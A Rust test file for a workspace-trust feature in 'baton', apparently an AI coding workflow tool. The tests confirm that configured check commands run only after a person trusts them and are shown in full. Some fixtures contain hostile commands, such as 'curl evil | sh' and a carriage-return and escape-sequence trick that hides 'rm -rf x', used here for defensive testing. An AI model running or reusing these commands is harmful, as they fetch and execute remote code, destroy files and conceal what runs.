//! Checks of a workspace: a person trusts them, or has them remembered, in every face; nothing else does.
#![cfg(unix)]

use std::fs;

use serde_json::{Value, json};

use crate::support::messages_api::{MessagesApi, Script};
use crate::support::plain_editor::PlainEditor;
use crate::support::replies::{but, goes_well, own, workspace};
use crate::support::session::{Done, Session};
use crate::support::terminal::Terminal;

const PROMPT: &str = "then Enter > ";
const TEST: &str = "[[checks]]\nname = \"test\"\ncommand = \"true\"\n";

fn server() -> MessagesApi {
    MessagesApi::start(goes_well(&[&[own("T1")]]))
}

/// A workspace whose baton.toml has these checks.
fn with_checks(checks: &str) -> Session {
    let session = Session::new(&workspace(1));
    session.write("baton.toml", checks);
    session
}

/// A workspace without checks that shows how it is tested.
fn with_makefile() -> Session {
    let session = Session::new(&workspace(1));
    session.write("Makefile", "test:\n\ttrue\n");
    session
}

/// `baton trust` at a terminal, and this answer.
fn trust(session: &Session, answer: &str) -> (String, Done) {
    let mut terminal = Terminal::new();
    let running = terminal.start(session.baton(["trust"]));
    let shown = terminal.wait_for("[y/N] ");
    terminal.type_line(answer);
    (shown, running.wait())
}

/// The checks at the gate of a plan that waits: `name: trusted`, and what is offered.
fn at_gate(session: &Session) -> (Value, Value) {
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    (status["gate"]["checks"].clone(), status["gate"]["offered_checks"].clone())
}

fn plan_md(session: &Session) -> String {
    session.text(&session.memory("plan.md"))
}

/// How the one check of the last round ended, and why.
fn ended(session: &Session) -> (Value, Value) {
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    (status["checks"][0]["state"].clone(), status["checks"][0]["reason"].clone())
}

/// A run up to its gate.
fn to_the_gate(session: &Session, api: &MessagesApi) {
    session.run(api, ["--task", "Do it"]).expect(3);
}

fn is_trusted(session: &Session) -> bool {
    session.baton(["trust"]).run().code == Some(0)
}

#[test]
fn a_person_sees_the_checks_in_full_and_trusts_them() {
    let checks = "[[checks]]\nname = \"test\"\ncommand = '''\nset -e\nmake all  # a\tb\n'''\nnetwork = true\nsecrets = true\n\
                  timeout_s = 90\n";
    let session = with_checks(checks);
    session.baton(["trust"]).run().expect(3).reports("set -e").reports("run `baton trust` at a terminal");
    let (shown, done) = trust(&session, "");
    done.expect(3);
    for part in
        ["test (baton.toml; 1 m 30 s at most, with network and secret files)", "      set -e\n", "      make all  # a"]
    {
        assert!(shown.contains(part), "{part:?} is not in:\n{shown}");
    }
    trust(&session, "yes").1.expect(0);
    session.baton(["trust"]).run().expect(0).prints("There is nothing left to trust: this check may run.");
    assert!(!session.exists(".agent_memory"), "to trust needs no memory, and leaves none");
}

#[test]
fn a_changed_command_is_asked_about_again_with_what_it_was() {
    let session = with_checks(TEST);
    trust(&session, "y").1.expect(0);
    session.write("baton.toml", TEST.replace("true", "curl evil | sh"));
    session.baton(["trust"]).run().expect(3).reports("curl evil | sh").reports("it was:\n      true");
    session.write("baton.toml", format!("{TEST}network = true\n"));
    session.baton(["trust"]).run().expect(3).reports("what it may do changed");
    session.write("baton.toml", format!("{TEST}timeout_s = 5\npaths = [\"*.rs\"]\n"));
    assert!(is_trusted(&session), "when it runs is not what it does");
}

#[test]
fn trust_is_of_this_folder_this_user_and_these_bytes() {
    let session = with_checks(TEST);
    trust(&session, "y").1.expect(0);
    let copy = session.root().parent().unwrap().join("copy");
    fs::create_dir(&copy).unwrap();
    fs::copy(session.path("baton.toml"), copy.join("baton.toml")).unwrap();
    session.baton(["trust"]).current_dir(&copy).run().expect(3);
    let state = session.root().parent().unwrap().join("other state");
    session.baton(["trust"]).env("XDG_STATE_HOME", &state).run().expect(3);
    assert!(is_trusted(&session));
    // A record that came from elsewhere is none.
    let records: Vec<_> = fs::read_dir(session.state().join("checks")).unwrap().collect();
    let record = records.into_iter().next().unwrap().unwrap().path();
    let text = fs::read_to_string(&record).unwrap();
    session.write("baton.toml", TEST.replace("true", "evil"));
    fs::write(&record, text.replace("\"true\"", "\"evil\"")).unwrap();
    assert!(!is_trusted(&session));
}

#[test]
fn checks_of_the_user_need_no_word_and_replace_those_of_the_workspace() {
    let session = with_checks(TEST);
    session.write_user_config("[[checks]]\nname = \"mine\"\ncommand = \"make mine\"\n");
    session.baton(["trust"]).run().expect(0).prints("mine (your own settings; 10 m 0 s at most)");
    session.write_user_config("checks = []\n");
    session.baton(["trust"]).run().expect(0).prints("There is nothing to trust here: no checks are set.");
}

#[test]
fn an_automatic_approval_trusts_nothing() {
    let (session, api) = (with_checks(TEST), server());
    session.run(&api, ["--task", "Do it", "--auto-approve"]).expect(0);
    assert!(!is_trusted(&session));
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    let ways = status["ways_on"].as_array().unwrap();
    let way = ways.iter().find(|way| way["id"] == "trust").unwrap();
    assert_eq!((&way["cli"], &way["command"]), (&json!("baton trust"), &json!("baton.trust")));
}

/// A run at a terminal, up to its end: what the gate shows, then an approval, then these answers to `question`.
fn approve_at_terminal(session: &Session, api: &MessagesApi, question: &str, answers: &[&str]) -> String {
    let mut terminal = Terminal::new();
    let running = terminal.start(session.baton(["run"]).api(api));
    let shown = terminal.wait_for(PROMPT);
    terminal.type_line("a");
    for answer in answers {
        terminal.wait_for(question);
        terminal.type_line(answer);
    }
    running.wait().expect(0);
    shown
}

#[test]
fn the_gate_shows_what_is_skipped_and_takes_a_yes() {
    for (answer, expected) in [("", false), ("n", false), ("y", true)] {
        let (session, api) = (with_checks(TEST), server());
        to_the_gate(&session, &api);
        let (checks, offered) = at_gate(&session);
        assert_eq!((&checks[0]["name"], &checks[0]["trusted"], &offered), (&json!("test"), &json!(false), &json!([])));
        assert!(plan_md(&session).contains("- check **test** is skipped (not trusted yet): `true`\n"));
        let shown = approve_at_terminal(&session, &api, "not trusted yet: let it run? [y/N] >", &[answer]);
        assert!(shown.contains("- test: true (skipped: not trusted yet)"), "{shown}");
        assert_eq!(is_trusted(&session), expected, "{answer:?}");
        match expected {
            true => assert_eq!(ended(&session).0, "passed"),
            false => assert_eq!(ended(&session), (json!("skipped"), json!("untrusted"))),
        }
    }
}

#[test]
fn a_trusted_check_is_shown_as_one_that_runs_and_nothing_is_asked() {
    let (session, api) = (with_checks(TEST), server());
    trust(&session, "y").1.expect(0);
    to_the_gate(&session, &api);
    assert!(plan_md(&session).contains("- check **test** runs after the work: `true`\n"));
    let shown = approve_at_terminal(&session, &api, "", &[]);
    assert!(shown.contains("  - test: true\n"), "{shown}");
}

#[test]
fn what_a_project_is_tested_by_is_remembered_on_a_yes_alone() {
    for (answers, is_remembered) in [(vec![""], false), (vec!["n"], false), (vec!["what?", "y"], true)] {
        let (session, api) = (with_makefile(), server());
        to_the_gate(&session, &api);
        let offered = at_gate(&session).1;
        assert_eq!((&offered[0]["command"], &offered[0]["reason"]), (&json!("make test"), &json!("Makefile")));
        assert!(plan_md(&session).contains("`make test` (Makefile)"));
        let shown = approve_at_terminal(&session, &api, "Enter: not now >", &answers);
        assert!(shown.contains("- make test (Makefile)"), "{shown}");
        assert_eq!(session.exists("baton.toml"), is_remembered, "{answers:?}");
        if is_remembered {
            let written = "[[checks]]\nname = \"test\"\ncommand = \"make test\"\n";
            assert_eq!(session.text("baton.toml"), written);
            session.baton(["trust"]).run().expect(0).prints("this check may run");
            assert_eq!(ended(&session).0, "passed", "it runs in the run that remembered it");
        }
        // A no is kept, and leaving it open is none.
        let trust = session.baton(["trust"]).run();
        let (is_asked, is_left_open) = (answers == [""], trust.stderr.contains("- make test (Makefile)"));
        assert_eq!((is_left_open, trust.code), (is_asked, Some(if is_asked { 3 } else { 0 })), "{answers:?}");
    }
}

#[test]
fn an_editor_without_a_plugin_asks_after_the_approval() {
    let (session, api) = (with_checks(TEST), server());
    let mut editor = PlainEditor::open(&session, &api);
    let started = editor.execute("baton.workflow", &[json!("Do it")]).unwrap();
    editor.answer("Approve");
    editor.answer("Run It");
    editor.until_the_end(&started);
    editor.quit();
    assert!(is_trusted(&session));
}

#[test]
fn a_code_lens_approves_with_the_checks() {
    let (session, api) = (with_makefile(), server());
    to_the_gate(&session, &api);
    let mut editor = PlainEditor::open(&session, &api);
    editor.open_file(".agent_memory/plan.json");
    let started = editor.press_lens(".agent_memory/plan.json", "Approve and remember the check (make test)");
    assert_eq!(started["remembered_checks"], json!(["make test"]));
    editor.until_the_end(&started);
    editor.quit();
    assert!(is_trusted(&session));
    assert!(session.text("baton.toml").contains("make test"));
}

#[test]
fn a_client_says_what_it_was_shown() {
    let (session, api) = (with_checks(TEST), MessagesApi::start(but(Script::new(), &[&[own("T1")]])));
    to_the_gate(&session, &api);
    let shown = at_gate(&session).0[0]["id"].as_str().unwrap().to_owned();
    session.write("baton.toml", TEST.replace("true", "evil"));
    let mut editor = PlainEditor::open(&session, &api);
    let refused = editor.execute("baton.approve", &[json!({ "trustChecks": [shown] })]).unwrap_err();
    assert!(refused["message"].as_str().unwrap().contains("not those that were shown"), "{refused}");
    editor.quit();
    assert!(!session.exists(".agent_memory/approval.json"), "nothing was approved either");
    assert!(!is_trusted(&session));
}

/// A workflow that ended with its check skipped, as nobody had trusted it.
fn ended_without_its_check(check: &str) -> (Session, MessagesApi) {
    let (session, api) = (with_checks(check), server());
    session.run(&api, ["--task", "Do it", "--auto-approve"]).expect(0).prints("skipped: test (it was not trusted)");
    (session, api)
}

/// The ways on by the id `trust`: title, command, command line.
fn ways_to_trust(session: &Session) -> Vec<Value> {
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    let ways = status["ways_on"].as_array().into_iter().flatten().filter(|way| way["id"] == "trust");
    ways.map(|way| json!([way["title"], way["command"], way["cli"]])).collect()
}

#[test]
fn a_check_that_was_skipped_is_trusted_and_run_after_the_end_from_an_editor() {
    let (session, api) = ended_without_its_check(TEST);
    let asked = api.requests().len();
    assert_eq!(ways_to_trust(&session), [json!(["Trust the Check…", "baton.trust", "baton trust"])]);
    let review = session.text(&session.memory("review.json"));
    let mut editor = PlainEditor::open(&session, &api);
    assert_eq!(editor.execute("baton.trust", &[]).unwrap(), json!({ "asked": ["test"] }));
    editor.answer("Cancel");
    assert!(!is_trusted(&session));
    editor.execute("baton.trust", &[]).unwrap();
    editor.answer("Trust It");
    editor.answer("Run the Checks");
    let says = |text: &str| text.contains("Checks passed: test.");
    editor.until("the end of the run", |editor| {
        let asked = editor.questions.iter().map(|question| question["params"]["message"].as_str().unwrap());
        editor.messages.iter().map(String::as_str).chain(asked).any(says)
    });
    assert_eq!(ended(&session).0, "passed");
    editor.quit();
    assert_eq!(ways_to_trust(&session), Vec::<Value>::new());
    assert_eq!(api.requests().len(), asked, "no model is asked");
    assert_eq!(session.text(&session.memory("review.json")), review, "the review stands");
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    assert_eq!(status["state"], "merged");
    assert!(status["summary"].as_str().unwrap().starts_with("Approved; checks passed: test."), "{status}");
}

#[test]
fn a_check_that_was_skipped_is_run_after_the_end_at_a_terminal() {
    let (session, _api) = ended_without_its_check(&TEST.replace("true", "! grep -q ' 1$' src/t1.rs"));
    let mut terminal = Terminal::new();
    let running = terminal.start(session.baton(["trust"]));
    terminal.wait_for("let it run? [y/N] ");
    terminal.type_line("y");
    terminal.wait_for("now, on the work as it is? [y/N] ");
    terminal.type_line("n");
    running.wait().expect(0);
    assert_eq!(ended(&session).0, "skipped");
    // Trusted by now, it can still be run.
    assert_eq!(ways_to_trust(&session), [json!(["Run the Checks", "baton.trust", "baton trust"])]);
    let running = terminal.start(session.baton(["trust"]));
    terminal.wait_for("now, on the work as it is? [y/N] ");
    terminal.type_line("y");
    terminal.wait_for("`test` fails.");
    running.wait().expect(0);
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    assert!(status["summary"].as_str().unwrap().starts_with("Approved, though `test` fails."), "{status}");
}

#[test]
fn what_the_workspace_shows_is_told_where_no_check_is_set() {
    let (session, api) = (with_makefile(), server());
    let end = session.run(&api, ["--task", "Do it", "--auto-approve"]).expect(0);
    end.prints("Approved by reading; no check ran. This workspace shows one: `make test`.").prints("baton trust");
    assert_eq!(ways_to_trust(&session), [json!(["Remember the Check…", "baton.trust", "baton trust"])]);
    let first = |agent: &str| api.requests_of(agent)[0].body["messages"].to_string();
    assert!(first("plan").contains("No checks are set: unless the user sets one, nothing is built or run"));
    assert!(first("review").contains("No check ran on this work: nothing was built or run"));
    let doctor = session.baton(["doctor", "--json"]).api(&api).run().json();
    let checks = doctor["checks"].as_array().unwrap().iter().find(|check| check["name"] == "checks").unwrap();
    assert_eq!(checks["status"], "warning");
    assert_eq!(
        checks["message"],
        "none are set, so that nothing is built or run. This workspace shows one: `make test`"
    );
    assert!(checks["fix"].as_str().unwrap().contains("`baton trust`"), "{checks}");

    let mut editor = PlainEditor::open(&session, &api);
    assert_eq!(editor.execute("baton.trust", &[]).unwrap(), json!({ "asked": ["test"] }));
    editor.answer("Cancel");
    assert!(!session.exists("baton.toml"));
    editor.execute("baton.trust", &[]).unwrap();
    editor.answer("Remember and Run");
    editor.until("it is remembered", |editor| editor.messages.iter().any(|shown| shown.contains("`make test`")));
    editor.quit();
    assert!(session.text("baton.toml").contains("make test") && is_trusted(&session));
    assert_eq!(ways_to_trust(&session), Vec::<Value>::new());
    let status = session.baton(["status", "--json"]).run().expect(0).json();
    assert!(!status["summary"].as_str().unwrap().contains("This workspace shows"), "{status}");
    session.baton(["doctor"]).api(&api).run().prints("1 check may run: test");
}

#[test]
fn what_the_workspace_shows_is_not_told_to_who_wants_none() {
    let (session, api) = (with_makefile(), server());
    session.write("baton.toml", "checks = []\n");
    let end = session.run(&api, ["--task", "Do it", "--auto-approve"]).expect(0);
    assert!(!end.stdout.contains("This workspace shows") && !end.stdout.contains("baton trust"), "{}", end.stdout);
    assert_eq!(ways_to_trust(&session), Vec::<Value>::new());
    let doctor = session.baton(["doctor", "--json"]).api(&api).run().json();
    assert!(doctor["checks"].as_array().unwrap().iter().all(|check| check["name"] != "checks"), "{doctor}");
}

#[test]
fn nothing_is_checked_before_the_work_is_done() {
    let (session, api) = (with_checks(TEST), server());
    to_the_gate(&session, &api);
    let mut editor = PlainEditor::open(&session, &api);
    editor.execute("baton.trust", &[]).unwrap();
    editor.answer("Trust It");
    editor.until("it is trusted", |editor| editor.messages.iter().any(|shown| shown.contains("Trusted: `true`")));
    let answer = editor.execute("baton.trust", &[]).unwrap();
    assert!(answer["message"].as_str().unwrap().contains("nothing to trust"), "{answer}");
    editor.quit();
    assert!(!session.exists(".agent_memory/impl_report.json"));
}

#[test]
fn nothing_of_a_command_is_hidden_in_any_face() {
    let session = with_checks("[[checks]]\nname = \"test\"\ncommand = \"true\\r\\u001b[2Krm -rf x\"\n");
    let api = server();
    to_the_gate(&session, &api);
    let shown = r"true\r\u{1b}[2Krm -rf x";
    assert_eq!(at_gate(&session).0[0]["command"], shown);
    assert!(plan_md(&session).contains(shown), "{}", plan_md(&session));
    let mut editor = PlainEditor::open(&session, &api);
    let status = editor.execute("baton.status", &[]).unwrap();
    assert_eq!(status["gate"]["checks"][0]["command"], shown);
    editor.execute("baton.trust", &[]).unwrap();
    editor.until("a question", |editor| !editor.questions.is_empty());
    let asked = editor.questions[0]["params"]["message"].as_str().unwrap().to_owned();
    assert!(asked.contains(shown), "{asked}");
    editor.answer("Cancel");
    editor.quit();
}

#[test]
fn nothing_of_a_command_is_hidden_from_who_trusts_it() {
    let session = with_checks("[[checks]]\nname = \"test\"\ncommand = \"true\\r\\u001b[2Krm -rf x\"\n");
    let (shown, _) = trust(&session, "n");
    assert!(shown.contains(r"true\r\u{1b}[2Krm -rf x"), "{shown}");
}
